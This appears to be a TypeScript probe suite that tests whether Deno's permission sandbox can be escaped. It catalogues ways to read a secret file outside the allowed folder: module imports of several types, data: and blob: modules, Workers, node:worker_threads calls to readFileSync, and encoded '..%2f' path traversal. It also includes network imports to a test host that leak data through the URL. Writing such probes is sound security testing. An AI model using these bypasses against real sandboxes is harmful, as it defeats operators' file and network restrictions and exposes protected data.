import {
  blobModule,
  dataModule,
  fileModule,
  hidden,
  outcome,
  type Probes,
  type Target,
  workerSays,
} from "./probe.ts";

/** Ways for a module to get at a file, as the source of one that posts or exports it. */
const WAYS: Record<string, (outside: string) => string> = {
  "a static import of JSON": (outside) =>
    `import value from "file://${outside}/secret.json" with { type: "json" };
    const found = JSON.stringify(value);`,
  "a static import of text": (outside) =>
    `import found from "file://${outside}/secret.txt" with { type: "text" };`,
  "a static import of bytes": (outside) =>
    `import found from "file://${outside}/secret.bytes" with { type: "bytes" };`,
  "a static import of TypeScript": (outside) =>
    `import { secret as found } from "file://${outside}/secret.ts";`,
  "a literal dynamic import": (outside) =>
    `const { secret: found } = await import("file://${outside}/secret.ts");`,
  "a dynamic import of a template": (outside) =>
    `const name = "secret";
    const { secret: found } = await import(\`file://${outside}/\${name}.ts\`);`,
  "a dynamic import of a sum": (outside) =>
    `const name = "secret.ts";
    const { secret: found } = await import("file://${outside}/" + name);`,
};

const HOLDERS: Record<string, (target: Target, text: string) => string> = {
  "a data: module": (_, text) => dataModule(text),
  "a blob: module": (_, text) => blobModule(text),
  "a module in the own folder": (target, text) => fileModule(target, text),
};

function combinations(): Probes {
  const probes: Probes = {};
  for (const [way, source] of Object.entries(WAYS)) {
    for (const [holder, address] of Object.entries(HOLDERS)) {
      probes[`${way} in ${holder}`] = async (target) =>
        (await import(address(target, `${source(target.outside)} export default found;`))).default;
      // A Worker in a Worker takes half a second: not all of them.
      if (holder !== "a data: module" && way !== "a static import of text") continue;
      probes[`${way} in a Worker of ${holder}`] = async (target) =>
        await workerSays(address(target, `${source(target.outside)} postMessage(found);`));
    }
  }
  return probes;
}

/** Reading files by loading them as modules, which Deno's rights alone do not cover. */
export const importProbes: Probes = {
  ...combinations(),
  "a computed import of JSON": async ({ outside }) =>
    (await import(hidden(`file://${outside}/secret.json`), { with: { type: "json" } })).default
      .secret,
  "a computed import of text": async ({ outside }) =>
    (await import(hidden(`file://${outside}/secret.txt`), { with: { type: "text" } })).default,
  "a computed import of TypeScript": async ({ outside }) =>
    (await import(hidden(`file://${outside}/secret.ts`))).secret,
  "a re-export in a module in the own folder": async (target) =>
    (await import(
      fileModule(target, `export { secret as default } from "file://${target.outside}/secret.ts";`)
    )).default,
  "an address that hides its folder": async ({ outside }) => {
    const address = new URL(`..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f`, import.meta.url);
    return (await import(`${address}${outside.slice(1)}/secret.ts`)).secret;
  },
  "a Worker of a file outside": ({ outside }) => workerSays(`file://${outside}/worker.ts`),
  "a Worker of node:worker_threads": ({ outside }) =>
    nodeWorkerSays(readingBy(outside), { eval: true }),
  "a Worker of node:worker_threads that asks for rights": ({ outside }) =>
    nodeWorkerSays(readingBy(outside), { eval: true, deno: { permissions: { read: true } } }),
  "a static import in a Worker of node:worker_threads": ({ outside }) =>
    nodeWorkerSays(
      new URL(dataModule(`
        import { parentPort } from "node:worker_threads";
        import found from "file://${outside}/secret.txt" with { type: "text" };
        parentPort.postMessage(found);`)),
    ),
};

/** Loading modules over the network, which tells the other end whatever stands in the address. */
export const remoteProbes: Probes = {
  "a computed import": ({ host }) => import(hidden(`http://${host}/leak.ts?told`)),
  "a static import in a data: module": ({ host }) =>
    import(dataModule(`import "http://${host}/leak.ts?told";`)),
  "a static import in a blob: module": ({ host }) =>
    import(blobModule(`import "http://${host}/leak.ts?told";`)),
  "a static import in a module in the own folder": (target) =>
    import(fileModule(target, `import "http://${target.host}/leak.ts?told";`)),
  "a literal import in a data: module": ({ host }) =>
    import(dataModule(`await import("http://${host}/leak.ts?told");`)),
  "a Worker": ({ host }) => workerSays(`http://${host}/leak.ts?told`),
  "a static import in a Worker": ({ host }) =>
    workerSays(dataModule(`import "http://${host}/leak.ts?told"; postMessage(1);`)),
  "a Worker that asks for the right": ({ host }) =>
    workerSays(dataModule(`import "http://${host}/leak.ts?told"; postMessage(1);`), {
      deno: { permissions: { import: true } },
    }),
};

function readingBy(outside: string): string {
  return `require("node:worker_threads").parentPort.postMessage(
    require("node:fs").readFileSync("${outside}/secret.txt", "utf8"))`;
}

/** What a Worker of Node posts first. The check refuses to import them by name. */
async function nodeWorkerSays(source: string | URL, options: object = {}): Promise<unknown> {
  const { Worker } = await import(hidden("node:worker_threads"));
  const worker = new Worker(source, options);
  try {
    return await outcome(worker, "message");
  } finally {
    worker.terminate();
  }
}
